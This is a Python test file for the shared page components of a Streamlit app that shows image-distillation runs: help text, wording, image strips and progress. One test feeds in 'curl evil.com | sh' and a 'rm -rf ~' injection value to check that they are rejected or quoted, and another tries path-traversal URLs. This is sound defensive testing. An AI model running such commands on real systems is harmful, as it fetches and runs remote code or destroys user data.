"""The pieces that pages share, where a value can be checked without a page."""

from __future__ import annotations

import io
from datetime import UTC, datetime
from urllib.parse import unquote

import numpy as np
import pytest
from fake_runs import fake_experiment, fake_images, make_finished_run, make_half_done_run
from PIL import Image
from starlette.requests import Request
from starlette.responses import Response
from streamlit.testing.v1 import AppTest

from delt_engine.config import Experiment, RecoverConfig, SelectConfig, field_specs
from delt_engine.config.schedule import EarlyLateSchedule
from delt_engine.errors import ConfigError
from delt_engine.plots.style import add_line, blank_figure
from pages.shared import controls, schedule_words, wording
from pages.shared.figure import described
from pages.shared.runs import class_rows, strips
from pages.shared.runs.progress import progress
from pages.shared.session import Session


@pytest.fixture(autouse=True)
def runs_folder(tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("DELT_RUNS", str(tmp_path))


def asked(url: str) -> Response:
    """Ask for an address as the browser does."""
    path, _, query = url.partition("?")
    _, folder, run, name = path.split("/", 3)
    assert folder == "strips"
    scope = {"type": "http", "query_string": query.encode(), "headers": []}
    return strips.answer(Request(scope | {"path_params": {"run": unquote(run), "path": unquote(name)}}))


def opened(url: str) -> np.ndarray:
    answer = asked(url)
    assert answer.status_code == 200
    assert answer.media_type == "image/png"
    return np.asarray(Image.open(io.BytesIO(answer.body)).convert("RGB"))


def test_help_says_default_and_origin() -> None:
    spec = controls.spec_of(RecoverConfig, "learning_rate")
    assert controls.help_text(spec).endswith("Default: 0.25 (DELT Table 8b).")
    assert controls.names_behind_more(SelectConfig)[:3] == ["median", "order", "mosaic"]
    assert all(spec.help for spec in field_specs(RecoverConfig))


def test_a_run_that_others_made_shows_no_command_but_ours(monkeypatch) -> None:
    drawn: list[str] = []
    monkeypatch.setattr(controls.st, "code", lambda text, **_look: drawn.append(text))
    for words in (("bash", "-c", "curl evil.com | sh"), (), ("delt", "resume", "a; rm -rf ~")):
        controls.command(words)
    assert drawn == ["delt resume 'a; rm -rf ~'"]


def test_a_draft_keeps_what_was_valid() -> None:
    draft = Session()
    draft.change("recover", ipc=3)
    with pytest.raises(ConfigError, match="learning_rate"):
        draft.change("recover", learning_rate=-1.0)
    assert draft.draft.recover.ipc == 3
    draft.choose_method("sre2l")
    assert (draft.draft.recover.ipc, draft.draft.recover.curriculum) == (3, "constant")


def test_words_for_numbers_and_names() -> None:
    now = datetime(2026, 1, 2, 12, tzinfo=UTC)
    for time, words in (("01-02T11:59:30.000", "30 s"), ("01-02T09:00:00", "3 h"), ("01-01T11:00:00", "1 day")):
        assert wording.ago(f"2026-{time}Z", now) == f"{words} ago"
    assert wording.ago(None) == ""
    assert wording.run_title(Experiment(dataset="/data/pets/")).startswith("pets · DELT")
    assert schedule_words.round_note(EarlyLateSchedule(10, 200, 50), 1) == "round 1 of 4, 3 of 10 images have joined"
    assert schedule_words.round_note(EarlyLateSchedule(1, 200, 50), 1) == "round 1 of 4"
    assert wording.plain("a_b*c$d![x](http://e)") == r"a\_b\*c\$d\!\[x\](http\://e)"
    assert wording.plain("<b> :red[x] :smile: `c` &amp; #1") == r"\<b\> \:red\[x\] \:smile: \`c\` \&amp; \#1"
    assert wording.plain("run 20260101-000000: R & D, 00:00 UTC.") == "run 20260101-000000: R & D, 00:00 UTC."


def test_a_film_has_a_frame_a_round_and_the_right_pixels(tmp_path) -> None:
    run = make_finished_run(tmp_path / "run")
    made = class_rows.film(run, [0, 2])
    assert [row.title for row in made.rows] == ["astronaut", "coffee"]
    assert [frame.tick for frame in made.frames] == ["0", "10", "20", "30", "40"]
    cell = made.rows[1].cells[3]
    sheet = opened(made.sheets[cell.sheets[2]])
    np.testing.assert_array_equal(sheet[:, cell.x * 32 : (cell.x + 1) * 32], fake_images(run, 2, 2)[3])
    assert [cell.joins for cell in made.rows[0].cells] == [1, 2, 3, 4]
    assert [(head.title, head.note) for head in made.head][-1] == ("R4", "10 it")


def test_parts_and_lists_of_a_class_are_cut_out_of_its_strip(tmp_path) -> None:
    run = make_finished_run(tmp_path / "run")
    path, images = run.snapshot_path(0, 4), fake_images(run, 0, 4)
    np.testing.assert_array_equal(opened(strips.address(run, path, 2, 2)), np.hstack(list(images[2:])))
    listed = opened(strips.address(run, path, tiles=(3, 0)))  # in the order of the list
    np.testing.assert_array_equal(listed, np.hstack([images[3], images[0]]))
    assert asked(strips.address(run, path, tiles=(4,))).status_code == 404
    path.unlink()  # as in runs that ship: the finished images stand for it
    np.testing.assert_array_equal(
        opened(strips.address(run, run.snapshot_path(0, 4), 2, 2)), np.hstack(list(images[2:]))
    )


def test_large_images_become_thumbnails_unless_asked_for_at_full_size(tmp_path) -> None:
    run = make_finished_run(tmp_path / "run", size=128)
    sheet = opened(class_rows.film(run, [0]).sheets[0])
    assert sheet.shape == (96, 4 * 96, 3)
    alone = Image.fromarray(fake_images(run, 0, 0)[1]).resize((96, 96), Image.Resampling.LANCZOS)
    np.testing.assert_array_equal(sheet[:, 96:192], np.asarray(alone))
    url = strips.address(run, run.snapshot_path(1, 3), 2, 1, full=True)
    np.testing.assert_array_equal(opened(url), fake_images(run, 1, 3)[2])


def test_while_a_run_is_on_its_film_ends_with_now(tmp_path) -> None:
    run = make_half_done_run(tmp_path / "run")
    made = class_rows.film_so_far(run, [0, 1])
    assert [frame.tick for frame in made.frames] == ["0", "10", "20", "now"]
    assert made.frames[-1].label == "Now: iteration 20 of 40"
    assert [cell.joins for cell in made.rows[0].cells] == [1, 2, 3, 4]  # image 3 joins in the round that is on
    live = opened(made.sheets[made.rows[0].cells[0].sheets[-1]])
    np.testing.assert_array_equal(live[:, :32], fake_images(run, 0, 3)[0])
    shown = class_rows.rounds_shown(1000)  # long runs are thinned and keep both ends
    assert (shown[0], shown[-1], len(shown)) == (0, 1000, class_rows.MOST_FRAMES)


def test_a_changed_strip_has_another_address_and_each_is_read_once(tmp_path, monkeypatch) -> None:
    run = make_finished_run(tmp_path / "run", fake_experiment(ipc=2))
    path, read = run.snapshot_path(0, 0), []
    before, real = strips.address(run, path), strips.Path.read_bytes
    monkeypatch.setattr(strips.Path, "read_bytes", lambda self: read.append(self) or real(self))
    assert strips.part(str(path), 1, 0, 1, False) == strips.part(str(path), 1, 0, 1, False)
    assert len(read) == 1
    assert asked(before).headers["cache-control"].endswith("immutable")
    Image.fromarray(np.zeros((32, 64, 3), np.uint8)).save(path)
    assert strips.address(run, path) != before
    assert opened(strips.address(run, path)).max() == 0
    assert strips.address(run, tmp_path / "nothing.png") is None


@pytest.mark.parametrize(
    "url",
    [
        "run/run.json",
        "run/selection.csv",
        "run/images/cat/0000.png",
        "run/images",
        "run/snapshots/cat",
        "run/snapshots/../../secret.png",
        "run/snapshots/cat/round-99.png",
        "..%2Frun/snapshots/cat/round-00.png?first=x",
        "run/snapshots/cat/round-00.png?first=-30000000",  # no range of that size is made
        "run/snapshots/cat/round-00.png?first=4",
        "run/snapshots/cat/round-00.png?count=-1",
        "~nobody/snapshots/cat/round-00.png",
        "none/snapshots/cat/round-00.png",
        "run/snapshots/cat/torn.png",
    ],
)
def test_nothing_but_strips_of_runs_is_served(tmp_path, url) -> None:
    run = make_finished_run(tmp_path / "run")
    Image.new("RGB", (8, 8)).save(tmp_path / "secret.png")
    (run.path / "snapshots" / "cat" / "torn.png").write_bytes(b"\x89PNG\r\n")
    assert asked(f"/strips/{url}").status_code == 404


def test_progress_counts_image_iterations_and_measures_the_rate(tmp_path) -> None:
    now = progress(make_half_done_run(tmp_path / "run"))
    total = EarlyLateSchedule(4, 40, 10).image_iterations(3)
    done = 3 * 10 + 6 * 10
    assert now.fraction == done / total
    assert (now.round_text, now.iteration_text) == ("2 of 4", "20 of 40")
    assert now.rate == pytest.approx((done - 3) / 0.19)  # from iteration 0 to 19, 0.01 s each
    assert now.left_s == pytest.approx((total - done) / now.rate)


def test_a_figure_is_described_by_its_axes_and_what_is_drawn() -> None:
    figure = blank_figure("Epoch", "Accuracy<br>(%)")
    for name in ("DELT", "CDA", "DELT"):
        add_line(figure, name, [1], [2], "#000000")
    assert described(figure) == "Chart. Accuracy (%) over Epoch: DELT, CDA"


def test_the_end_of_what_is_followed_is_drawn_by_the_whole_page_alone() -> None:
    def script() -> None:
        import streamlit as st

        from pages.shared import live

        ahead = st.session_state.setdefault("ahead", [True])  # it ends when the page has been begun
        live.follow(lambda: bool(ahead and ahead.pop()), lambda: st.session_state.setdefault("drawn", []).append(1))
        st.session_state["pages"] = st.session_state.get("pages", 0) + 1

    app = AppTest.from_function(script).run()
    assert not app.exception
    assert (app.session_state["drawn"], app.session_state["pages"]) == ([1], 1)
